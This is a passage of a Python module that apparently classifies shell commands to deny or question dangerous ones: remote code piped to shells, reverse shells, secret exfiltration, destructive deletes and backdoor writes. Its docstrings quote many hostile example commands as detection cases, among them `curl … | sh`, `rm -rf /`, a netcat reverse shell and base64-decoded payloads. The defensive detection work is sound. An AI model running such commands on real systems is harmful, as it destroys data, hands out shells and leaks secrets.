r"""Analyse a parsed shell command: hard blocks (layer 2), findings (layer 6), tier,
known-safe (layer 7), the files it touches and the hosts it talks to.

``analyse(parsed, cwd=…, home=…, workspace_roots=…)`` classifies every simple command
the parser extracted (``semantics.classify``), then applies the rules that need the
whole script:

* a pipeline that feeds remote content (``curl``, ``wget -O-``, ``nc``) into a shell or
  interpreter reading stdin, or runs what a decoder (``base64 -d``, ``xxd -r``, ``rev``)
  produced, or wires a shell to a raw socket;
* a download that is executed later in the same script (``curl -o x … && ./x``), or a
  substitution that fetches code for a shell (``sh -c "$(curl …)"``, ``bash <(curl …)``);
* a secret (or the environment) read in the same script that talks to the network;
* fork bombs in the raw source (a function definition makes the parse too complex, so
  the parser cannot see them as commands).

Hard blocks are looked for in everything extractable, including
``TooComplex.partial``: ``for f in *; do rm -rf /; done`` is denied, not asked.

What is a hard block and what only asks
---------------------------------------

Hard blocks (``HB0xx``, deny in every mode): recursive delete of ``/``, a home, a
system directory or a workspace root (HB001); ``mkfs`` on a device (HB002); raw writes
or wipes of block devices, partition-table zaps (HB003); fork bombs (HB004); downloaded
code executed — piped to a shell, run after download, fetched inside ``$(…)``/``<(…)``
for a shell, or downloaded into a startup file (HB005); reverse and bind shells
(HB006/HB007); secret or environment exfiltration (HB008); dumping a high-value secret
such as a private key, cloud credentials or ``/etc/shadow`` (HB009); decoded text
executed by a shell (HB010); writes to backdoor targets (authorized_keys, sudoers,
ld.so.preload, passwd/shadow, PAM) or ``LD_PRELOAD`` planted in a startup file (HB011);
recursive chmod/chown of the root, a home or a system directory (HB012); killing every
process (HB013); kernel crash (HB014); a root shell obtained through another program
under ``sudo`` (``sudo find -exec /bin/sh``, ``sudo awk 'BEGIN{system("sh")}'``: HB015).

Asks (``CAT0xx``, layer 6; ``destructive`` ones never offer session/always grants):
``git push --force``, ``git reset --hard``, ``git clean -f``, ``git branch -D``,
discarding checkouts (CAT015); ``kubectl delete``, ``terraform destroy``, ``helm
uninstall``, cloud ``delete-*``, destructive SQL, ``docker system prune`` (CAT016);
publishing (CAT017); ``shutdown``/``reboot`` (CAT018); partitioning (CAT023); account
changes (CAT025); disabling security controls (CAT028); network access, privilege, code
execution, persistence targets, secrets of lower value, writes outside the workspace.
An interactive root shell asked for directly (``sudo -i``, ``sudo bash``) asks; ``rm``
inside the workspace asks (CAT010) but is not destructive.

Deleting *inside* a directory is not deleting the directory. ``find DIR … -delete``,
``find DIR -exec rm {} \;``, ``git clean`` and ``git rm -r .`` report a ``delete`` of
``DIR/*`` (``paths.within``), so the files layer judges the children: ``find . -delete``
in the workspace asks (CAT034), ``find / -name core -delete`` is denied (every child of
``/`` is a removal target), ``find ~ -name '*.pyc' -delete`` asks. ``find`` deletes its
start point too when nothing excludes it (``find ~ -delete``, ``find /srv -delete``:
denied); ``.`` is never deleted itself. ``git clean -n`` only reads. The shared temp
directory itself (``rm -rf /tmp``, ``rm -rf $TMPDIR``, which reads as ``/tmp``) is a
removal target; emptying it (``rm -rf /tmp/*``) asks (CAT011, destructive).

Data is not execution: arguments of ``echo``/``printf``, grep patterns, commit
messages and here-documents written to files are never analysed as commands; text is
analysed as code only where something runs it (``bash -c``, ``eval``, ``| sh``, a
script written and then run, ``xargs``/``parallel`` inputs, interpreter ``system()``
strings, with their escapes read both ways, ``ssh host CMD``, and text appended to a
startup file or crontab). The parser hands over every text it ran as code
(``Script.code``): fork bombs, which only the raw text shows, are looked for there too.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

from ...model import Finding, Severity, Tier
from ...precompiled import DOTALL, IGNORECASE, pattern as compiled
from ...std_lite import cache
from ..catalog import catalog as C
from ..catalog.intents import CODES, RiskFactor, at_least, factor, finding, safety
from ..syntax.env import CODE_LOADING_ENV
from ..syntax.fastinit import fast_factory
from ..syntax.lazyre import LazyPattern
from ..syntax.literal import output as literal_output, string_escapes
from ..syntax.options import parse_args
from ..syntax.script import Script, SimpleCommand, TooComplex
from ..syntax.wildcards import fnmatchcase
from .flows import fed_effects
from .inline import fork_bomb, heredoc_bodies
from .links import MAKERS as LINK_MAKERS, through_links
from .models import MODELS
from .paths import EXEC, READ, WRITE, PathAccess, at_call_cwd, find_roots, resolve
from .semantics import ANALYSER, Ctx, Facts, classify
from .targets import persistence_level, secret_level

TYPE_CHECKING = False
if TYPE_CHECKING:
    import re
    from collections import defaultdict
    from collections.abc import Callable, Iterable, Sequence
else:
    from _collections import defaultdict  # collections' own, without importing collections

__all__ = ["Analysis", "analyse"]

_new_ctx = fast_factory(Ctx, ("cwd", "home", "roots", "analyser", "source", "parsed"))

#: Nested strings (interpreter ``system("…")`` arguments, ``${IFS}`` rewrites) are
#: parsed and analysed again at most this deep.
MAX_NESTED_DEPTH = 3
_SUBSTITUTION_ORIGINS = frozenset({"substitution", "process-substitution"})


@dataclass
class Analysis:
    """Everything the layers need from the shell analysis of one command string."""

    hard_blocks: list[Finding] = field(default_factory=list)  # layer 2 → deny
    findings: list[Finding] = field(default_factory=list)  # layer 6 → ask
    factors: list[RiskFactor] = field(default_factory=list)
    paths: list[PathAccess] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)
    safety: str = "safe"
    tier: Tier = Tier.READ_ONLY
    known_safe: bool = True  # every command read-only or routine → layer 7 allows
    unknown: list[str] = field(default_factory=list)  # names not in the catalog → review
    destructive: bool = False  # never offer session/always grants
    #: Syntax findings the analysis answered more precisely: SH026 ("a program fed to an
    #: interpreter cannot be analysed") once a code model read every such program.
    answered: frozenset[str] = frozenset()
    #: A line too complex only for unknown values (``$(…)``, loops, ``$!``) that all land
    #: where they cannot hurt (:mod:`.unknowns`): judged as written, not refused.
    resolved: bool = False
    #: Commands (their text) that run a file the line wrote from literal text, judged by
    #: that text (``planned``): the code they run is known, not "maybe what was just written".
    planned_runs: frozenset[str] = frozenset()


@dataclass
class _Hit:
    """A finding's code and detail, and the command that raised it."""

    code: str
    detail: str
    command: str


def analyse(
    parsed: Script | TooComplex,
    *,
    cwd: str,
    home: str,
    workspace_roots: Sequence[str] = (),
    source: str | None = None,
) -> Analysis:
    """Analyse ``parsed`` (the parser's result) for a call running in ``cwd``.

    ``source`` is the raw command string; by default ``parsed.source``. It is only
    scanned for fork bombs, which no parse can show as commands.
    """
    base = resolve(cwd or "/", "/", home)
    roots = tuple(resolve(r, base, home) for r in workspace_roots if r) or (base,)
    raw = parsed.source if source is None else source
    ctx = _new_ctx({"cwd": base, "home": home, "roots": roots, "analyser": ANALYSER, "source": raw,
                    "parsed": parsed if raw == parsed.source else None})
    hits: list[_Hit] = []
    facts = _run(parsed.commands, raw, bool(parsed.complex), ctx, 0, hits, parsed.code)
    return _summarise(parsed, facts, hits)


# --------------------------------------------------------------------------- the run


def _run(commands: Sequence[SimpleCommand], raw: str, complex_: bool, ctx: Ctx, depth: int, hits: list[_Hit],
         code: Sequence[tuple[str, Sequence[SimpleCommand]]] = ()) -> list[Facts]:
    facts = [classify(cmd, ctx) for cmd in _resolve_names(at_call_cwd(commands, ctx.cwd))]
    for f in facts:
        if f.hits:
            hits.extend(_Hit(h.code, h.detail, f.label) for h in f.hits)
    quiet = _quiet(facts)
    if not quiet:
        _decoded_text_run(facts, hits)
        _pipelines(facts, hits)
        if depth < MAX_NESTED_DEPTH:
            _fed_inputs(facts, raw, ctx, depth, hits)
        _socket_shells(facts, hits)
        _substitutions(facts, hits)
        _exfiltration(facts, hits)
    if complex_ and raw:
        _fork_bombs(raw, commands, hits)
        _raw_patterns(raw, commands, ctx, hits)
    for text, own in code:  # texts the parser ran as code (``echo ':(){ …' | sh``, a script run)
        _fork_bombs(text, own, hits)
        if "$(" in text or _CRADLE_WORD.search(text):
            _raw_patterns(text, own, ctx, hits)
    if depth < MAX_NESTED_DEPTH:
        _fed_programs(facts, ctx, depth, hits)
        _file_programs(facts, ctx, depth, hits)
        flow_hits, flow_texts = fed_effects(facts, ctx)  # what flows between commands (flows.py)
        hits.extend(_Hit(*hit) for hit in flow_hits)
        for text, where in flow_texts:
            _nested(text, where, ctx, depth, hits)
        if any(f.name in LINK_MAKERS for f in facts):
            for f, text, where in through_links(facts, ctx):  # ``ln -s ~ /tmp/l && rm -rf /tmp/l/``
                _take_effects(f, _nested(text, f"{f.label}, through the link {where}", ctx, depth, hits))
        for f in facts:
            if f.nested:
                for text in _nested_texts(f.nested):
                    _take_effects(f, _nested(text, f.label, ctx, depth, hits))
        if raw and ("${IFS" in raw or "$IFS" in raw):
            rewritten = raw.replace("${IFS}", " ").replace("$IFS", " ")
            _nested(rewritten, "IFS-separated command", ctx, depth, hits)
        if complex_ and raw:
            for match in _BRACE_COMMAND.finditer(raw):
                _nested(match.group(1).replace(",", " "), "brace expansion", ctx, depth, hits)
        if not quiet:
            _payloads(facts, ctx, depth, hits)
            _find_exec_inputs(facts, ctx, hits)
    if not quiet:  # after the nested texts: a program that runs a file the line downloaded
        _download_then_exec(facts, ctx, hits)
    return facts


def _file_programs(facts: list[Facts], ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
    """Project files a command runs (``Facts.runs``: a script, a Makefile recipe, a
    package.json script), judged by what they would do: a catastrophic effect is the
    hard block it would be if typed (``./clean.sh`` holding ``rm -rf ~`` is HB001), and
    the files they write or delete reach the file layers. Other findings stay out:
    running the project's own code is what ``make test`` is for, not a question.

    A file's verdict is kept per text, place and depth (:data:`_FILE_VERDICTS`): a
    session that runs ``make test`` twenty times analyses its recipes once."""
    for f in facts:
        for language, text, origin in f.runs:
            key = (language, text, origin, ctx.cwd, ctx.home, ctx.roots, depth)
            known = _FILE_VERDICTS.get(key)
            if known is None:
                known = _file_verdict(language, text, origin, f.label, ctx, depth)
                if len(_FILE_VERDICTS) >= _FILE_VERDICTS_MAX:
                    _FILE_VERDICTS.clear()
                _FILE_VERDICTS[key] = known
            found, paths, hosts = known
            hits.extend(_Hit(h.code, h.detail, f.label) for h in found)
            f.paths.extend(paths)
            f.hosts.extend(hosts)


#: Verdicts of project files already analysed: (hits, paths, hosts) per key.
_FILE_VERDICTS: dict[tuple[object, ...], tuple[list[_Hit], list[PathAccess], list[str]]] = {}
_FILE_VERDICTS_MAX = 128


def _file_verdict(language: str, text: str, origin: str, label: str, ctx: Ctx,
                  depth: int) -> tuple[list[_Hit], list[PathAccess], list[str]]:
    """What one project file would do: its hard blocks (or an ask when no model can
    read it), and the files and hosts it touches that the file layers must see."""
    where = f"{origin} run by {label}"
    found: list[_Hit] = []
    if language == "sh":
        inner = _nested(text, where, ctx, depth, found)
    else:
        read = _program_text(language, text, where, ctx, depth, found)
        if read is None:  # a program no model can follow (too long, TypeScript …) is not known to be harmless
            return [_Hit("CAT006", f"{origin}: a {language} program bastion could not read", label)], [], []
        inner = read
    holder = Facts(SimpleCommand(()), "")
    _take_effects(holder, inner, _guarded(ctx))
    return [hit for hit in found if CODES[hit.code].hard], holder.paths, holder.hosts


def _program_text(language: str, text: str, where: str, ctx: Ctx, depth: int, found: list[_Hit]) -> list[Facts] | None:
    """A program file read by its code model: its shell equivalents analysed as shell,
    its flags (a socket wired to a shell, fetched code run) as findings. None when the
    model cannot read it (a Python file that does not even compile runs nothing: [])."""
    from .models import read_program

    program = read_program(language, text)
    if program is None:
        return [] if language in ("python", "pypy") and not _compiles(text) else None
    from .verdicts import program_findings

    for code, note in program_findings(program):
        if CODES[code].hard:  # a project file's other findings stay out (see _file_programs)
            found.append(_Hit(code, f"{where} ({language} code{': ' + note if note else ''})", where))
    return _nested("\n".join(program.shell), where, ctx, depth, found) if program.shell else []


def _compiles(text: str) -> bool:
    import ast

    try:
        ast.parse(text)
    except (SyntaxError, ValueError):
        return False
    return True


def _fed_programs(facts: list[Facts], ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
    """Text one pipeline stage feeds the next, when it is fixed: a program printed into an
    interpreter (``echo 'code' | ruby``, ``cat <<EOF | python3``) is read as that
    interpreter's code, and what a program prints into a shell (``perl -e 'print
    pack("H*", …)' | sh``) is read as shell."""
    stages: dict[tuple[int, int, int], Facts] | None = None  # made when a stage reads its stdin as code
    for f in facts:
        if "exec_stdin" not in f.roles or f.cmd.pipe_index == 0:
            continue
        if stages is None:
            stages = {(g.cmd.depth, g.cmd.pipeline, g.cmd.pipe_index): g for g in facts if g.cmd.pipeline >= 0}
        before = stages.get((f.cmd.depth, f.cmd.pipeline, f.cmd.pipe_index - 1))
        if before is None:
            continue
        if f.name in C.SHELLS:
            if before.prints is not None:
                _nested(before.prints, f"{before.label} | {f.name}", ctx, depth, hits)
            continue
        if f.name not in C.INTERPRETERS and f.name not in MODELS:
            continue
        text = _fed_text(before, ctx)
        if text is None:
            continue
        from .checks.code import read_program_text

        seen = len(f.hits)
        read_program_text(f, text, ctx)
        hits.extend(_Hit(h.code, f"{h.detail} [program fed by {before.name}]", f.label) for h in f.hits[seen:])


def _fed_text(f: Facts, ctx: Ctx) -> str | None:
    """The fixed text a stage writes to its stdout: ``echo``/``printf`` of literals, a
    ``cat`` of a here-document or here-string, or a program's constant output."""
    if f.prints is not None:
        return f.prints
    if f.name in ("echo", "printf"):
        return literal_output(f.cmd.argv)
    if f.name == "cat" and len(f.cmd.argv) == 1:
        for r in f.cmd.redirects:
            if r.op == "<<<":
                return r.target
            if r.op in ("<<", "<<-"):
                bodies = heredoc_bodies(ctx.source, "cat")
                return bodies[0] if len(bodies) == 1 else None
    return None


def _quiet(facts: list[Facts]) -> bool:
    """True when the rules about what flows between commands cannot fire: no command
    fetches, sends, runs its input or opens a socket (no role), downloads a file, runs
    under a wrapper (``xargs``, ``sudo`` …), comes from a substitution or ``-exec``, or
    echoes text (a payload). Most scripts are quiet; each rule that :func:`_run` skips
    for them needs one of these to fire."""
    for f in facts:
        cmd = f.cmd
        if f.roles or f.downloads or cmd.wrappers or cmd.origin != "top" or f.name in ("echo", "printf"):
            return False
    return True


def _nested(text: str, where: str, ctx: Ctx, depth: int, hits: list[_Hit]) -> list[Facts]:
    """Parse and analyse a shell string found inside code; keep what it asks or blocks,
    and return what its commands do (their files and hosts belong to the outer command)."""
    from ..syntax.parse import parse

    inner = parse(text)
    found: list[_Hit] = []
    facts = _run(inner.commands, inner.source or text, bool(inner.complex), replace(ctx, source=text, parsed=inner), depth + 1, found,
                 inner.code)
    for hit in found:
        hits.append(_Hit(hit.code, f"{hit.detail} [inside {where}]", hit.command))
    return facts


def _nested_texts(found: list[str]) -> list[str]:
    """Each shell text a command hands on, once: a code model and the lexical scan often
    find the same string, and a string in a program's source is also read with its
    escapes expanded (they may hide newlines); when a model already gave the expanded
    string, the raw one is not what runs. Reading each text once keeps the cost of a
    nesting level from multiplying with every level."""
    given = set(found)
    texts: dict[str, None] = {}
    for text in found:
        decoded = string_escapes(text) if "\\" in text else text
        if decoded == text or decoded not in given:  # a model gave the decoded string: the raw one is not what runs
            texts[text] = None
        texts[decoded] = None
    return list(texts)


def _take_effects(f: Facts, inner: list[Facts], keep: Callable[[PathAccess], bool] | None = None) -> None:
    """The files and hosts of the commands a program runs (``os.remove(p)`` read as
    ``rm -f -- p``) are the program's own: the file layers judge them (a protected
    file deleted from inside Python asks like ``rm`` of it does). ``keep`` picks which."""
    for g in inner:
        if g.paths:
            f.paths.extend(a for a in g.paths if keep is None or keep(a))
        if g.hosts:
            f.hosts.extend(g.hosts)


def _guarded(ctx: Ctx) -> Callable[[PathAccess], bool]:
    """What a project file's own writes may bring to the file layers: files outside the
    workspace, protected names and files that run later. A Makefile recipe that writes
    ``build/`` or touches ``.venv/bin/activate`` is the project doing its work."""
    from ...paths.match import protected_rows

    def keep(access: PathAccess) -> bool:
        path = access.resolved
        return (not ctx.inside(path) or bool(persistence_level(path, ctx.home))
                or bool(protected_rows(path, ctx.home)) or access.op == "exec")

    return keep


_BRACE_COMMAND = LazyPattern(r"(?:^|[;&|(]\s*)\{([^{}\s,]+(?:,[^{}\s,]*)+)\}")
_VAR = LazyPattern(r"\$\{?([A-Za-z_][A-Za-z_0-9]*)\}?")
_ECHO_SUBST = LazyPattern(r"^(?:\$\(|`)\s*(echo|printf)\s+(-[neE]+\s+)?(['\"]?)(.*?)\3\s*(?:\)|`)$", DOTALL)


def _literal_output(text: str) -> str | None:
    """What ``$(echo X)`` / ``$(printf 'X')`` / `` `echo X` `` prints, when literal (a
    substitution drops the trailing newlines). An ``echo`` text with a backslash is read
    with its escapes expanded, as sh's ``echo`` prints it."""
    match = _ECHO_SUBST.match(text)
    if match is None:
        return None
    name, flags, body = match.group(1), (match.group(2) or "").split(), match.group(4)
    if "$" in body or "`" in body:
        return None
    if name == "echo" and "\\" in body:
        flags = ["-e"]
    printed = literal_output((name, *flags, body), exact=True)
    return printed.rstrip("\n") if printed is not None else None


def _resolve_names(commands: Sequence[SimpleCommand]) -> list[SimpleCommand]:
    """Command names built at run time from literals: ``$(echo rm) -rf /``,
    ``a=r; b=m; $a$b -rf /``, ``c="rm -rf"; $c ~/``, ``x=$(printf '\\x72\\x6d'); $x``,
    ``r$()m``. Only literal values are substituted; anything else stays dynamic."""
    values: dict[str, str] = {}
    out: list[SimpleCommand] = []
    for cmd in commands:
        if not cmd.argv:
            for name, value in cmd.assignments:
                literal = _literal_output(value) if value.startswith(("$(", "`")) else value
                if literal is not None and "$" not in literal and "`" not in literal:
                    values[name] = literal
                else:
                    values.pop(name, None)
            out.append(cmd)
            continue
        head = cmd.argv[0]
        if "$" not in head and "`" not in head:
            out.append(cmd)
            continue
        text = head.replace("$()", "").replace("``", "")
        literal = _literal_output(text)
        if literal is not None:
            text = literal
        text = _VAR.sub(lambda m: values.get(m.group(1), m.group(0)), text)
        if "$" in text or "`" in text or not text.strip():
            out.append(cmd)
            continue
        out.append(replace(cmd, argv=(*text.split(), *cmd.argv[1:])))
    return out


# --------------------------------------------------------------------------- script rules


#: ``parallel -I X`` / ``--replace=X``: the placeholder its command uses.
_REPLACE_OPTION = LazyPattern(r"(?:-I\s*|--replace=|-J\s*)(\S+)|(?<!\S)(-i|--replace)(?=\s)")


def _fed_inputs(facts: list[Facts], raw: str, ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
    """Commands whose arguments come from their input: ``parallel rm -rf {} ::: /``
    runs ``rm -rf /``. When the input is literal, analyse the command as it will run.
    (``xargs`` fed a literal, ``echo / | xargs rm -rf``, is spelled out by the parser.)"""
    for f in facts:
        cmd = f.cmd
        inputs: list[str] | None = None
        if "parallel" in cmd.wrappers and ":::" in raw:
            import shlex  # only a literal ``parallel … :::`` input

            try:
                tail = shlex.split(raw.split(":::", 1)[1].split("\n", 1)[0])
            except ValueError:
                tail = []
            inputs = [w for w in tail if w != ":::"][:1] or None
        if not inputs:
            continue
        tokens = {"{}"} | {m.group(1) or "{}" for m in _REPLACE_OPTION.finditer(raw)} | {"{1}", "{.}"}
        argv = list(cmd.argv)
        if any(tok in a for a in argv for tok in tokens):
            argv = [_substitute(a, tokens, inputs[0]) for a in argv]
        else:
            argv += inputs
        shell_wrapped = any(w in C.SHELLS for w in cmd.wrappers[cmd.wrappers.index("parallel") :])
        where = f"{f.label} with input {inputs[0]!r}"
        if shell_wrapped or (argv and argv[0].rsplit("/", 1)[-1] in C.SHELLS and "-c" in argv):
            text = " ".join(argv) if shell_wrapped else (argv[argv.index("-c") + 1] if argv.index("-c") + 1 < len(argv) else "")
            _nested(text, where, ctx, depth, hits)
            continue
        fed = classify(replace(cmd, argv=tuple(argv), wrappers=tuple(w for w in cmd.wrappers if w != "parallel")), ctx)
        hits.extend(_Hit(h.code, f"{h.detail} [{where}]", fed.label) for h in fed.hits if h.code.startswith("HB"))
        for text in fed.nested:
            _nested(text, where, ctx, depth, hits)


def _substitute(word: str, tokens: set[str], value: str) -> str:
    for tok in tokens:
        word = word.replace(tok, value)
    return word


def _decodes(f: Facts) -> bool:
    if "decode" in f.roles:
        return True
    if f.name not in C.STRONG_DECODERS and f.name != "tr":
        return False
    args = f.cmd.argv[1:]
    if f.name == "tr":
        return any("N-ZA-M" in a or "n-za-m" in a for a in args)
    flags = C.DECODERS.get(f.name, frozenset())
    if not flags:
        return True
    return any(a in flags or (a.startswith("-") and not a.startswith("--") and any("-" + c in flags for c in a[1:])) for a in args)


#: Roles that make a pipeline stage worth a look: what it runs or sends, or a socket.
_PIPE_ROLES = frozenset({"exec_stdin", "send", "raw_socket"})


def _pipelines(facts: list[Facts], hits: list[_Hit]) -> None:
    """What flows between the stages of each pipeline (``curl … | sh``, ``cat key | nc``)."""
    if not any(f.roles & _PIPE_ROLES for f in facts):
        return  # no stage runs, sends or opens a socket: nothing can flow anywhere
    groups: dict[tuple[int, int], list[Facts]] = defaultdict(list)
    for f in facts:
        if f.cmd.pipeline >= 0:
            groups[(f.cmd.depth, f.cmd.pipeline)].append(f)
    for stages in groups.values():
        stages.sort(key=lambda f: f.cmd.pipe_index)
        for j, stage in enumerate(stages):
            before, after = stages[:j], stages[j + 1 :]
            if "exec_stdin" in stage.roles:
                if any("fetch" in p.roles for p in before):
                    hits.append(_Hit("HB005", f"{_names(before)} | {stage.label}", stage.label))
                elif any(_decodes(p) for p in before):
                    hits.append(_Hit("HB010", f"{_names(before)} | {stage.label}", stage.label))
                elif any("raw_socket" in p.roles or "listen" in p.roles for p in before + after):
                    hits.append(_Hit("HB006", _names(stages), stage.label))
            elif _is_shell(stage) and any("raw_socket" in a.roles for a in after):
                hits.append(_Hit("HB006", _names(stages), stage.label))
            if "send" in stage.roles and before:
                if any("env_dump" in p.roles for p in before):
                    hits.append(_Hit("HB008", f"{_names(before)} | {stage.label} (environment)", stage.label))
                leaked = [path for p in before for path, _level in p.secrets]
                if leaked:
                    hits.append(_Hit("HB008", f"{leaked[0]} → {stage.label}", stage.label))


def _decoded_text_run(facts: list[Facts], hits: list[_Hit]) -> None:
    """``echo ZWNobyBoaQ== | base64 -d | sh``: the parser decoded the text and the shell's
    commands are judged as typed (a decoded ``rm -rf ~`` is HB001); a person still sees
    that what runs was hidden behind an encoding (an ask), whatever it does."""
    for f in facts:
        if f.cmd.origin != "heredoc" or f.cmd.pipeline < 0 or not any(w in C.SHELLS for w in f.cmd.wrappers):
            continue
        if any(_decodes(p) for p in facts if p.cmd.pipeline == f.cmd.pipeline and p.cmd.pipe_index < f.cmd.pipe_index
               and p.cmd.depth < f.cmd.depth):
            hits.append(_Hit("CAT007", f"decoded text run by {f.cmd.wrappers[-1]}: {f.label}", f.label))
            return


def _socket_shells(facts: list[Facts], hits: list[_Hit]) -> None:
    """A shell that reads its commands from a pipe or FIFO in a script that also opens a
    raw connection (``mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f``)."""
    sockets = [f for f in facts if "raw_socket" in f.roles or "listen" in f.roles]
    if not sockets:
        return
    for f in facts:
        if f.name in C.SHELLS and "exec_stdin" in f.roles and (f.cmd.pipeline >= 0 or f.cmd.redirects):
            hits.append(_Hit("HB006", f"{f.label} with {sockets[0].label}", f.label))
            return


def _is_shell(f: Facts) -> bool:
    return f.name in C.SHELLS and ("-i" in f.cmd.argv[1:] or "exec_stdin" in f.roles)


def _names(stages: Iterable[Facts]) -> str:
    return " | ".join(f.name or f.label for f in stages)


def _substitutions(facts: list[Facts], hits: list[_Hit]) -> None:
    """``sh -c "$(curl …)"``, ``bash <(curl …)``, ``eval "$(… | base64 -d)"``."""
    fetched = [f for f in facts if f.cmd.origin in _SUBSTITUTION_ORIGINS and "fetch" in f.roles]
    decoded = [f for f in facts if f.cmd.origin in _SUBSTITUTION_ORIGINS and _decodes(f)]
    if not fetched and not decoded:
        return
    runners = [f for f in facts if f.cmd.origin not in _SUBSTITUTION_ORIGINS and _runs_dynamic_code(f)]
    if not runners:
        return
    code = "HB005" if fetched else "HB010"
    source = (fetched or decoded)[0]
    hits.append(_Hit(code, f"{runners[0].label} runs the output of {source.label}", runners[0].label))


def _runs_dynamic_code(f: Facts) -> bool:
    if "exec_dynamic" in f.roles:
        return True
    argv = f.cmd.argv
    if not argv:
        return False
    if "$" in argv[0] or "`" in argv[0]:
        return True
    if f.name in C.SHELLS or f.name in C.INTERPRETERS or f.name in ("eval", "source", "."):
        return any(("$(" in a or "<(" in a or "`" in a or a.startswith("/dev/fd/")) for a in argv[1:])
    return False


def _download_then_exec(facts: list[Facts], ctx: Ctx, hits: list[_Hit]) -> None:
    """A downloaded file run later in the script (``curl -o x … && ./x``), or a file
    from a downloaded archive: an unpacker (:data:`_UNPACKERS`) that reads downloaded
    data, from a file or from a fetch earlier in its pipeline, makes everything under
    the folder it writes downloaded too (``curl … | tar xz -C /tmp && /tmp/a/run.sh``,
    ``unzip x.zip -d d && cd d && ./install.sh``). A download may be a folder (``git
    clone URL`` makes ``y``: ``cd y && npm install`` runs its code) or a glob of files
    whose names only the server knows (``pip download x``: ``*-[0-9]*``)."""
    if not any(f.downloads or "fetch" in f.roles for f in facts):
        return  # nothing downloads a file, so nothing can run one
    downloaded: dict[str, Facts] = {}
    unpacked: dict[str, Facts] = {}  # folders an archive of downloaded data went into
    for f in facts:
        for path in _executed(f, ctx):
            source = _fetched(path, downloaded) or next((s for d, s in unpacked.items() if _under(path, d)), None)
            if source is not None:
                hits.append(_Hit("HB005", f"{source.label} then {f.label}", f.label))
        for path in f.downloads:
            downloaded[path] = f
        if "fetch" in f.roles:
            for access in f.paths:
                if access.op == "write":
                    downloaded[access.resolved] = f
        if f.name in _UNPACKERS:
            source = _fed_by_fetch(f, facts) or next(
                (s for a in f.paths if a.op == "read" and (s := _fetched(a.resolved, downloaded)) is not None), None)
            if source is not None:
                for access in f.paths:
                    if access.op == "write":
                        unpacked[access.resolved] = source


#: Commands that unpack an archive into a folder (the folder is their ``write`` path).
_UNPACKERS = frozenset({"tar", "bsdtar", "unzip", "7z", "7za", "7zr"})


def _fed_by_fetch(f: Facts, facts: list[Facts]) -> Facts | None:
    """The fetch earlier in ``f``'s pipeline (``curl -s URL | tar xz``), if any."""
    if f.cmd.pipeline < 0:
        return None
    return next((p for p in facts if p.cmd.pipeline == f.cmd.pipeline and p.cmd.depth == f.cmd.depth
                 and p.cmd.pipe_index < f.cmd.pipe_index and "fetch" in p.roles), None)


def _under(path: str, folder: str) -> bool:
    return path.startswith(folder.rstrip("/") + "/")


def _fetched(path: str, downloaded: dict[str, Facts]) -> Facts | None:
    """The command that downloaded ``path``: it is a download, lies in a downloaded
    folder, or matches a downloaded glob."""
    source = downloaded.get(path)
    if source is not None:
        return source
    for target, source in downloaded.items():
        if _under(path, target) or ("*" in target and fnmatchcase(path, target)):
            return source
    return None


def _executed(f: Facts, ctx: Ctx) -> list[str]:
    out = [a.resolved for a in f.paths if a.op == EXEC]
    argv = f.cmd.argv
    if argv and (f.name in C.SHELLS or f.name in C.INTERPRETERS or f.name in ("source", ".")):
        ops = [a for a in argv[1:] if not a.startswith("-")]
        if ops:
            out.append(resolve(ops[0], f.base, ctx.home))
            if "/" not in ops[0] and f.name not in C.INTERPRETERS:  # ``PATH=/tmp:$PATH bash NAME`` finds NAME there
                folders = next((v for k, v in reversed(f.cmd.assignments) if k == "PATH"), "")
                out += [resolve(f"{d.rstrip('/')}/{ops[0]}", f.base, ctx.home) for d in folders.split(":") if d]
    return out


def _exfiltration(facts: list[Facts], hits: list[_Hit]) -> None:
    """A secret read anywhere in a script that also talks to the network (high-value
    secrets), or flowing into the sender (lower-value secrets, the environment)."""
    senders = [f for f in facts if "send" in f.roles or "fetch" in f.roles]
    if not senders:
        return
    high = [(path, f) for f in facts for path, level in f.secrets if level >= 2]
    if high:
        path, reader = high[0]
        hits.append(_Hit("HB008", f"{path} read by {reader.label}; network: {senders[0].label}", reader.label))
        return
    for sender in senders:
        own = [path for path, _level in sender.secrets]
        if own and "send" in sender.roles:
            hits.append(_Hit("HB008", f"{own[0]} sent by {sender.label}", sender.label))
            return
    for f in facts:
        if f.cmd.origin in _SUBSTITUTION_ORIGINS and (f.secrets or "env_dump" in f.roles):
            what = f.secrets[0][0] if f.secrets else "the environment"
            hits.append(_Hit("HB008", f"{what} via {f.label} into {senders[0].label}", f.label))
            return
    dumped = _dumped_files(facts)
    for sender in senders:
        sent = next((a.resolved for a in sender.paths if a.op == READ and a.resolved in dumped), None)
        if sent is not None and "send" in sender.roles:
            hits.append(_Hit("HB008", f"{dumped[sent]} written to {sent} and sent by {sender.label}", sender.label))
            return


def _dumped_files(facts: list[Facts]) -> dict[str, str]:
    """Files a command fills with secrets or the whole environment (``env > /tmp/e``,
    ``env | tee /tmp/e``, a program printing ``os.environ`` into a file): resolved path →
    what they hold. A sender that reads one later in the line sends that (a file in
    between is still the same flow)."""
    out: dict[str, str] = {}
    for f in facts:
        what = f.secrets[0][0] if f.secrets else "the environment" if "env_dump" in f.roles else None
        if what is None:
            continue
        stages = [f]
        if f.cmd.pipeline >= 0:
            stages += [g for g in facts if g.cmd.pipeline == f.cmd.pipeline and g.cmd.pipe_index > f.cmd.pipe_index]
        for g in stages:
            for access in g.paths:
                if access.op == WRITE:
                    out.setdefault(access.resolved, f"{what} (by {f.label})")
    return out


def _payloads(facts: list[Facts], ctx: Ctx, depth: int, hits: list[_Hit]) -> None:
    """Text written into a file that runs later (rc files, cron, a conftest.py) is code:
    an echoed ``curl … | sh`` appended to ``~/.bashrc`` is a hard block, not data. The
    text is read as what it becomes in that file (``planted.as_commands``: a crontab
    line's command, a Python file's program), and a program's constant output or its
    file writes (which its model gives as ``printf``) count as echoed text."""
    from ...paths.match import planted_only
    from .planted import as_commands

    def runs_later(path: str) -> bool:
        return bool(persistence_level(path, ctx.home)) or planted_only(path, ctx.home)

    for f in facts:
        if f.prints is None and (f.name not in ("echo", "printf") or len(f.cmd.argv) < 2):
            continue  # (a program that prints only constants prints text as literal as echo's)
        targets = [a for a in f.paths if a.op == "write" and runs_later(a.resolved)]
        if not targets and f.cmd.pipeline >= 0:
